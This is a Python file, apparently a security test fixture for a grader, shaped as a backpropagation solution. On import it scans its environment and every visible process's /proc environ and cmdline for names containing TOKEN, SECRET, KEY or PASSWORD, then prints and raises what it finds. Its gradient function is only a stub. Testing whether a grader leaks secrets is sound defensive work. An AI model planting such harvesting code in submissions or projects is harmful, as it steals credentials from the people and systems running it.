"""Read the grader's environment (tokens, keys, paths) and print it.

The tests put a fresh token in the oracle's environment
(``BACKPROP_ATTACK_CANARY``). The file looks for it, and for anything named
like a secret, in its own environment and in ``/proc/<pid>/environ`` and
``cmdline`` of every process it can see, prints what it finds first (so that
the report's quote of its output holds it), and raises it in an exception.

Held when: the token appears nowhere in the command's output, JSON or reports.
"""

import contextlib
import glob
import os

import numpy as np

WANTED = ("CANARY", "TOKEN", "SECRET", "KEY", "PASSWORD")
FOUND = []
for name, value in os.environ.items():
    if any(w in name.upper() for w in WANTED):
        FOUND.append(f"{name}={value}")
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    with contextlib.suppress(OSError), open(path, "rb") as f:
        for item in f.read().split(b"\0"):
            text = item.decode(errors="replace")
            if any(w in text.upper() for w in WANTED):
                FOUND.append(f"{path}: {text}")
if FOUND:
    print("ATTACK-SUCCEEDED: " + "; ".join(FOUND)[:1500])
else:
    print(f"attack: nothing secret in the environment ({len(os.environ)} variables)")


def loss_and_grad(W, X, T, layer_sizes, lam):
    if FOUND:
        raise RuntimeError("; ".join(FOUND)[:1500])
    return 0.0, np.zeros_like(W)
